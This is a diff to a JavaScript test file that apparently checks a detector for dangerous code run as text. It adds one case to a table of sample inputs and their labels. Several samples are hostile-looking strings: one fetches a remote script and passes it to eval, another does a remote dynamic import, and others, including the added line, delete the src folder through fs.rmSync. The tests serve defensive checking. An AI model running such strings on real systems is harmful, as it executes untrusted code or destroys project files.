@@ -162,6 +162,7 @@ describe("code that is run as text", () => {
     ["fetch('https://x.example/a.js').then((r) => r.text()).then(eval)", "execute network"],
     ["await import('https://x.example/a.js')", "execute network"],
     ["import('data:text/javascript,require(%22fs%22).rmSync(%22src%22)')", "delete src"],
+    ["import('fs').then((fs) => fs.rmSync('src'))", "delete src"],
     ["eval(code)", "anything"],
     ["require('fs')[method]('src')", "anything"],
     ["require(name)", "anything"],
